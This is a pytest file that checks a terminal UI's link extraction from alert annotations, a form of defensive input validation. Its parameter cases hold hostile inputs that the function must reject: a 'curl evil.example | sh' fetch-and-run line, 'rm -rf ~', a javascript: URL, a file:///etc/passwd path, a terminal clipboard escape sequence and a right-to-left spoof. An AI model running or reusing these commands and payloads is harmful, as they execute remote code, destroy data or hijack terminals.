"""What of an alert leads elsewhere."""

from __future__ import annotations

from typing import Any

import pytest

from quarterdeck.tui.screens.alerts.doors import link_of
from tests.tui.fake_alerts import alert

GOOD = "https://runbooks.example.com/slow?of=a#b"


@pytest.mark.parametrize(
    ("annotations", "url", "link"),
    [
        ({"runbook_url": GOOD}, "http://prometheus/graph", GOOD),
        ({"dashboard": GOOD}, None, GOOD),
        ({}, "HTTP://prometheus:9090/graph?g0.expr=up", "HTTP://prometheus:9090/graph?g0.expr=up"),
        ({"runbook_url": "https://a.example\ncurl evil.example | sh\n"}, GOOD, GOOD),
        ({"runbook_url": GOOD + "\n"}, None, ""),
        ({"runbook_url": "https://a.example/ rm -rf"}, None, ""),
        ({"runbook_url": "rm -rf ~"}, None, ""),
        ({"runbook_url": "javascript:alert(1)", "runbook": "file:///etc/passwd"}, "", ""),
        ({"runbook_url": "https://a.example/\x1b]52;c;aGk=\x07"}, None, ""),
        ({"runbook_url": "https://a.example/\u202egro.elpmaxe"}, None, ""),
        ({"runbook_url": "https://a.example/" + "x" * 3_000}, None, ""),
        ({"runbook_url": ""}, None, ""),
    ],
)
def test_only_an_address_on_one_line_is_a_link(annotations: dict[str, str], url: str | None, link: str) -> None:
    found: dict[str, Any] = alert(1, "Down", "critical", 1, annotations=annotations, url=url)
    assert link_of(found) == link
